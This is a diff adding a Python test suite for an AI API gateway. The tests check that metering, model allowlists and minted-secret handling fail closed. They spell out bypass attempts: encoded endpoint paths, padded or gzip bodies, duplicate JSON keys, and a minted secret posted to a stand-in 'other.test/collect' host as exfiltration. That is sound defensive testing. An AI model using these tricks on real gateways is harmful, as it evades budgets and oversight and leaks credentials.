@@ -1,0 +1,387 @@
+"""Metering fails closed, through the real gateway, with the official SDKs against the
+fake providers (tests/fakes): every way around budgets and allowlists found on the
+previous `main` (the metering issue's "Why", numbered the same) is a case here.
+
+Two policies: `agent` has a 10,000-token daily budget (so its calls must be metered);
+`free` has none, allows provider-minted secrets, and meters deferred jobs when their
+results are retrieved."""
+
+from __future__ import annotations
+
+import gzip
+import json
+import os
+import ssl
+import subprocess
+import sys
+import time
+import urllib.request
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import anthropic
+import httpx
+import httpx2
+import openai
+import pytest
+import websockets.exceptions
+import websockets.sync.client
+from fakes.inference import FakeInference
+from fakes.realtime import FakeRealtime
+from helpers.gateway import GatewayFactory, GatewayThread
+
+from gateway.sandbox_env import sandbox_env
+
+KEY = "sk-fake-provider-key"
+NAMES = ["api.openai.com", "api.anthropic.com", "myaccount.openai.azure.com"]
+WS_HOST = "ws.openai.test"  # the WebSocket fake (another port), a host of the same key
+POLICIES = {
+    "agent.yaml": """
+version: v1
+name: agent
+egress:
+  - host: api.openai.com
+    credential: openai
+    models: ["gpt-4o-mini*", "gpt-realtime*"]
+  - host: ws.openai.test
+    credential: openai
+    models: ["gpt-4o-mini*", "gpt-realtime*"]
+  - host: api.anthropic.com
+    credential: anthropic
+  - host: myaccount.openai.azure.com
+    credential: azure
+  - host: other.test
+    inspect: true
+budgets:
+  - {name: daily, per: sandbox, window: 24h, tokens: 10000}
+""",
+    "free.yaml": """
+version: v1
+name: free
+egress:
+  - host: api.openai.com
+    credential: openai
+    allow_minted_secrets: true
+  - host: ws.openai.test
+    credential: openai
+    allow_minted_secrets: true
+  - host: api.anthropic.com
+    credential: anthropic
+  - host: other.test
+    inspect: true
+credentials:
+  openai: {preset: openai, secret: provider-key, hosts: [api.openai.com, ws.openai.test]}
+  anthropic: {preset: anthropic, secret: provider-key}
+  azure: {preset: azure-openai, secret: provider-key, hosts: [myaccount.openai.azure.com]}
+""",
+}
+
+
+@pytest.fixture
+def fake(tmp_path: Path) -> Iterator[FakeInference]:
+    with FakeInference(tmp_path / "fake", api_key=KEY, output_tokens=6000,
+                       background_after=2) as server:
+        yield server
+
+
+@pytest.fixture
+def ws(fake: FakeInference, tmp_path: Path) -> Iterator[FakeRealtime]:
+    server = FakeRealtime(tmp_path / "ws", fake.ca, [WS_HOST], inference=fake)
+    yield server
+    server.stop()
+
+
+@pytest.fixture(params=["fast", "mitmproxy"])
+def gw(request: pytest.FixtureRequest, make_gateway: GatewayFactory, tmp_path: Path,
+       fake: FakeInference, ws: FakeRealtime) -> GatewayThread:
+    secrets = tmp_path / "s.yaml"
+    secrets.write_text(f"provider-key: {KEY}\n")
+    secrets.chmod(0o600)
+    resolve = {n: f"127.0.0.1:{fake.port}" for n in [*NAMES, "other.test"]}
+    resolve[WS_HOST] = f"127.0.0.1:{ws.port}"
+    return make_gateway(POLICIES, config={
+        "secrets": {"store": "file", "path": str(secrets)},
+        "network": {"intercept": request.param, "upstream_ca": str(fake.ca_path),
+                    "resolve": resolve}})
+
+
+def _http(gw: GatewayThread, token: str, sandbox: str = "sandbox-1") -> httpx.Client:
+    return httpx.Client(proxy=gw.proxy_url(token, sandbox), timeout=30,
+                        verify=ssl.create_default_context(cafile=gw.ca_cert))
+
+
+def _oai(gw: GatewayThread, token: str, sandbox: str = "sandbox-1") -> openai.OpenAI:
+    return openai.OpenAI(api_key=token, http_client=_http(gw, token, sandbox), max_retries=0)
+
+
+def _usage(gw: GatewayThread, sandbox: str = "sandbox-1") -> dict[str, Any]:
+    answer: dict[str, Any] = json.loads(urllib.request.urlopen(urllib.request.Request(
+        f"{gw.admin}/v1/usage?sandbox={sandbox}",
+        headers={"Authorization": f"Bearer {gw.gateway.admin_token}"}), timeout=5).read())
+    return answer
+
+
+def _lines(gw: GatewayThread, count: int, **match: Any) -> list[dict[str, Any]]:
+    deadline = time.monotonic() + 5
+    while True:
+        found = [r for r in gw.audit.records()
+                 if all(r.get(k) == v for k, v in match.items())]
+        if len(found) >= count or time.monotonic() > deadline:
+            assert len(found) == count, (match, found)
+            return found
+        time.sleep(0.05)
+
+
+def _stream(http: httpx.Client, path: str, body: bytes, headers: dict[str, str]
+            ) -> httpx.Response:
+    return http.post(f"https://api.openai.com{path}", content=body, headers={
+        "Content-Type": "application/json", **headers})
+
+
+# 1. Another spelling of the endpoint: four 6,000-token streams passed a 10,000-token budget.
+def test_another_spelling_cannot_stream_past_a_token_budget(gw: GatewayThread,
+                                                             fake: FakeInference) -> None:
+    token = gw.mint("agent")
+    auth = {"Authorization": f"Bearer {token}"}
+    body = json.dumps({"model": "gpt-4o-mini", "stream": True, "max_tokens": 6000,
+                       "messages": [{"role": "user", "content": "write a lot"}]}).encode()
+    answers = []
+    with _http(gw, token) as http:
+        for path in ("/v1/chat/completion%73", "//v1/chat/completions/",
+                     "/v1/chat/completions", "/v1/chat/completion%73"):
+            answers.append(_stream(http, path, body, auth))
+    assert [a.status_code for a in answers] == [200, 429, 429, 429], answers[1].text
+    # The spelled call asked for its usage, and its usage was counted.
+    asked = [r.json() for r in fake.requests if r.path.startswith("//v1/chat/completion")
+             or "completion%73" in r.path]
+    assert asked and asked[0]["stream_options"] == {"include_usage": True}
+    refused = answers[1].json()["error"]
+    assert refused["code"] == "budget_exceeded" and 'budget "daily"' in refused["message"]
+    assert answers[1].headers["Retry-After"]
+    used = _usage(gw)
+    assert used["totals"]["output_tokens"] == 6000
+    [budget] = used["budgets"]
+    assert budget["settled"]["tokens"] >= 6000 and budget["reserved"]["tokens"] == 0
+
+
+# 2. Bodies the meter did not read: padded past the old hold size, or gzip-encoded.
+@pytest.mark.parametrize("shape", ["padded", "gzip"])
+def test_padded_and_compressed_bodies_are_read(gw: GatewayThread, fake: FakeInference,
+                                               shape: str) -> None:
+    token = gw.mint("agent")
+    doc = {"model": "gpt-4o-mini", "stream": True, "max_tokens": 6000,
+           "messages": [{"role": "user", "content": "hi"}]}
+    raw = json.dumps(doc).encode()
+    headers = {"Authorization": f"Bearer {token}"}
+    if shape == "padded":
+        raw = raw[:-1] + b" " * (3 << 20) + b"}"  # 3 MiB of whitespace
+    else:
+        raw, headers["Content-Encoding"] = gzip.compress(raw), "gzip"
+    with _http(gw, token) as http:
+        first = _stream(http, "/v1/chat/completions", raw, headers)
+        second = _stream(http, "/v1/chat/completions", raw, headers)
+    assert (first.status_code, second.status_code) == (200, 429), first.text
+    seen = fake.requests[-1]
+    assert json.loads(seen.decoded or b"")["stream_options"] == {"include_usage": True}
+    if shape == "gzip":  # re-encoded in the coding its head names
+        assert seen.headers["content-encoding"] == "gzip" and seen.body[:2] == b"\x1f\x8b"
+    [line] = _lines(gw, 1, path="/v1/chat/completions", decision="allow")
+    assert line["usage"]["output_tokens"] == 6000
+    assert line["usage"]["budget"]["basis"] == "usage"
+
+
+# 6. JSON a provider may read differently; an Azure api-version without stream usage.
+def test_json_the_provider_may_read_differently_is_refused(gw: GatewayThread,
+                                                           fake: FakeInference) -> None:
+    token = gw.mint("agent")
+    before = len(fake.requests)
+    with _http(gw, token) as http:
+        twice = http.post("https://api.openai.com/v1/chat/completions",
+                          content=b'{"model": "gpt-4o-mini", "Model": "gpt-4o", '
+                                  b'"messages": []}',
+                          headers={"Authorization": f"Bearer {token}",
+                                   "Content-Type": "application/json"})
+    assert twice.status_code == 403 and twice.json()["error"]["code"] == "model_not_allowed"
+    with openai.AzureOpenAI(api_key=token, api_version="2024-06-01", max_retries=0,
+                            azure_endpoint="https://myaccount.openai.azure.com",
+                            http_client=_http(gw, token)) as azure, \
+            pytest.raises(openai.PermissionDeniedError) as refused:
+        azure.chat.completions.create(model="gpt-4o", stream=True,
+                                      messages=[{"role": "user", "content": "hi"}])
+    assert refused.value.code == "metering_unavailable"
+    assert "api-version 2024-06-01 cannot report its usage" in refused.value.message
+    assert len(fake.requests) == before
+
+
+# 4. Background work and batches: refused where budgets apply, metered once when
+#    retrieved elsewhere.
+def test_deferred_work(gw: GatewayThread, fake: FakeInference) -> None:
+    before = len(fake.requests)
+    with _oai(gw, gw.mint("agent")) as budgeted:
+        with pytest.raises(openai.PermissionDeniedError) as refused:
+            budgeted.responses.create(model="gpt-4o-mini", input="later", background=True)
+        assert refused.value.code == "metering_unavailable"
+        assert "a background response" in refused.value.message
+        with pytest.raises(openai.PermissionDeniedError):
+            budgeted.batches.create(input_file_id="file-x", endpoint="/v1/chat/completions",
+                                    completion_window="24h")
+    token = gw.mint("agent")
+    with anthropic.Anthropic(api_key=token, max_retries=0, http_client=httpx2.Client(
+            proxy=gw.proxy_url(token), timeout=30,
+            verify=ssl.create_default_context(cafile=gw.ca_cert))) as claude, \
+            pytest.raises(anthropic.PermissionDeniedError):
+        claude.messages.batches.create(requests=[{"custom_id": "a", "params": {
+            "model": "claude-x", "max_tokens": 10,
+            "messages": [{"role": "user", "content": "hi"}]}}])
+    assert len(fake.requests) == before  # none reached the provider
+
+    with _oai(gw, gw.mint("free", sandbox="sandbox-2"), "sandbox-2") as free:
+        job = free.responses.create(model="gpt-4o-mini", input="later please",
+                                    background=True)
+        assert job.status == "queued" and job.usage is None
+        assert free.responses.retrieve(job.id).status == "in_progress"
+        done = free.responses.retrieve(job.id)
+        assert done.status == "completed" and done.usage is not None
+        again = free.responses.retrieve(job.id)  # metered once, not per retrieval
+        assert again.usage is not None
+    used = _usage(gw, "sandbox-2")["totals"]
+    assert used["output_tokens"] == done.usage.output_tokens == 6000
+    assert used["requests"] == 1
+    metered = [r for r in _lines(gw, 3, path=f"/v1/responses/{job.id}") if r["usage"]]
+    assert len(metered) == 1 and metered[0]["policy"] == "free"
+    assert (metered[0]["usage"]["output_tokens"], metered[0]["usage"]["input_tokens"]) == (
+        6000, done.usage.input_tokens)
+
+
+# 3. The Responses API over WebSocket: allowlist, usage and budget on every response.create.
+SESSION = r"""
+import json, sys, openai
+client = openai.OpenAI(max_retries=0, websocket_base_url="wss://ws.openai.test/v1")
+out = []
+with client.responses.connect() as conn:
+    for model in sys.argv[1:]:
+        conn.response.create(model=model, input="hello there", max_output_tokens=6000)
+        for event in conn:
+            if event.type in ("response.completed", "response.incomplete", "error"):
+                out.append({"type": event.type,
+                            "code": getattr(getattr(event, "error", None), "code", None),
+                            "message": getattr(getattr(event, "error", None), "message", None),
+                            "usage": event.response.usage.output_tokens
+                            if event.type != "error" else None})
+                break
+print(json.dumps(out))
+"""
+
+
+def _sdk(gw: GatewayThread, token: str, script: str, *args: str) -> Any:
+    env = {k: v for k, v in os.environ.items() if "PROXY" not in k.upper()}
+    for line in sandbox_env(token, gw.proxy, ca_bundle=str(gw.ca_cert)):
+        key, _, value = line.partition("=")
+        env[key] = value
+    out = subprocess.run([sys.executable, "-c", script, *args], env=env, capture_output=True,
+                         text=True, timeout=60)
+    assert out.returncode == 0, out.stderr[-3000:]
+    return json.loads(out.stdout)
+
+
+def test_responses_over_websocket(gw: GatewayThread, ws: FakeRealtime) -> None:
+    token = gw.mint("agent")
+    events = _sdk(gw, token, SESSION, "gpt-4o", "gpt-4o-mini", "gpt-4o-mini")
+    assert [(e["type"], e["code"]) for e in events] == [
+        ("error", "model_not_allowed"), ("response.completed", None),
+        ("error", "budget_exceeded")]
+    assert "gpt-4o" in events[0]["message"] and 'budget "daily"' in events[2]["message"]
+    assert events[1]["usage"] == 6000
+    [connection] = ws.connections
+    assert [e["model"] for e in connection.received] == ["gpt-4o-mini"]  # only the allowed
+    assert connection.headers["authorization"] == f"Bearer {KEY}"
+    lines = _lines(gw, 3, path="/v1/responses")
+    assert [(line["decision"], line["error"]) for line in lines] == [
+        ("deny", "model_not_allowed"), ("deny", "budget_exceeded"), ("allow", None)]
+    assert lines[-1]["status"] == 101 and lines[-1]["usage"]["output_tokens"] == 6000
+    assert _usage(gw)["totals"]["output_tokens"] == 6000
+
+
+# 5. Secrets the provider mints: refused by default; allowed, bound like the key.
+def test_provider_minted_secrets(gw: GatewayThread, fake: FakeInference,
+                                 ws: FakeRealtime) -> None:
+    session = {"type": "realtime", "model": "gpt-realtime"}
+    with _oai(gw, gw.mint("agent")) as budgeted, \
+            pytest.raises(openai.PermissionDeniedError) as refused:
+        budgeted.realtime.client_secrets.create(session=session)  # type: ignore[arg-type]
+    assert refused.value.code == "minted_secret_refused"
+    assert "allow_minted_secrets: true" in refused.value.message
+    assert fake.minted == []
+
+    token = gw.mint("free", sandbox="sandbox-2")
+    with _oai(gw, token, "sandbox-2") as client:
+        secret = client.realtime.client_secrets.create(session=session)  # type: ignore[arg-type]
+    assert fake.minted == [secret.value] and secret.value.startswith("ek_")
+    # Back to the provider, from the sandbox that minted it: it goes on as sent, metered.
+    with websockets.sync.client.connect(
+            f"wss://{WS_HOST}/v1/realtime?model=gpt-realtime", open_timeout=10,
+            proxy=gw.proxy_url(token, "sandbox-2"),
+            ssl=ssl.create_default_context(cafile=gw.ca_cert),
+            additional_headers={"Authorization": f"Bearer {secret.value}"}) as conn:
+        assert json.loads(conn.recv(timeout=10))["type"] == "session.created"
+        conn.send(json.dumps({"type": "response.create"}))
+        while json.loads(conn.recv(timeout=10))["type"] != "response.done":
+            pass
+    assert ws.upgrades[-1]["authorization"] == f"Bearer {secret.value}"
+    [line] = _lines(gw, 1, path="/v1/realtime", decision="allow")
+    assert line["credential"] == "openai" and line["usage"]["output_tokens"] == 20
+    # Anywhere else it is the key: refused; another sandbox cannot use it either.
+    with _http(gw, token, "sandbox-2") as http:
+        leaked = http.post("https://other.test/collect",
+                           content=json.dumps({"s": secret.value}))
+    assert leaked.status_code == 403 and leaked.json()["error"] == "exfiltration_blocked"
+    assert secret.value not in gw.audit.getvalue()
+    other = gw.mint("free", sandbox="sandbox-3")
+    with pytest.raises(websockets.exceptions.InvalidStatus) as stranger:
+        websockets.sync.client.connect(
+            f"wss://{WS_HOST}/v1/realtime?model=gpt-realtime", open_timeout=10,
+            proxy=gw.proxy_url(other, "sandbox-3"),
+            ssl=ssl.create_default_context(cafile=gw.ca_cert),
+            additional_headers={"Authorization": f"Bearer {secret.value}"})
+    assert stranger.value.response.status_code == 407
+
+
+def test_policy_test_decides_like_the_gateway(gw: GatewayThread, tmp_path: Path,
+                                              fake: FakeInference) -> None:
+    """8. `policy test` once said model allowlists "do not exist yet": the same cases
+    through `policy test` and through the gateway give the same answers."""
+    from gateway.cli import main
+
+    pdir = tmp_path / "policies"
+    (pdir / "tests").mkdir(parents=True, exist_ok=True)
+    for name, text in POLICIES.items():
+        (pdir / name).write_text(text)
+    cases = [
+        ("agent", "POST", "/v1/chat/completions", {"model": "gpt-4o-mini", "max_tokens": 5,
+                                                   "messages": []}, "allow", None),
+        ("agent", "POST", "/v1/chat/completions", {"model": "gpt-4o", "messages": []},
+         "deny", "model_not_allowed"),
+        ("agent", "POST", "/v1/responses", {"model": "gpt-4o-mini", "background": True},
+         "deny", "metering_unavailable"),
+        ("agent", "POST", "/v1/chat/completions", {"model": "gpt-4o-mini",
+                                                   "max_tokens": 20000}, "deny",
+         "budget_exceeded"),
+        ("agent", "POST", "/v1/realtime/client_secrets", {"session": {
+            "model": "gpt-realtime"}}, "deny", "minted_secret_refused"),
+    ]
+    (pdir / "tests" / "t.yaml").write_text(json.dumps({"cases": [
+        {"name": f"case {i}", "policy": pol, "method": method,
+         "url": f"https://api.openai.com{path}", "body": body, "expect": expect,
+         **({"error": error} if error else {})}
+        for i, (pol, method, path, body, expect, error) in enumerate(cases)]}))
+    assert main(["policy", "test", str(pdir)]) == 0
+    token = gw.mint("agent")
+    with _http(gw, token) as http:
+        for _pol, method, path, body, expect, error in cases:
+            answer = http.request(method, f"https://api.openai.com{path}",
+                                  content=json.dumps(body),
+                                  headers={"Authorization": f"Bearer {token}",
+                                           "Content-Type": "application/json"})
+            got = answer.json()["error"]["code"] if answer.status_code >= 400 else None
+            assert (got, expect == "allow") == (error, answer.status_code < 400), answer.text
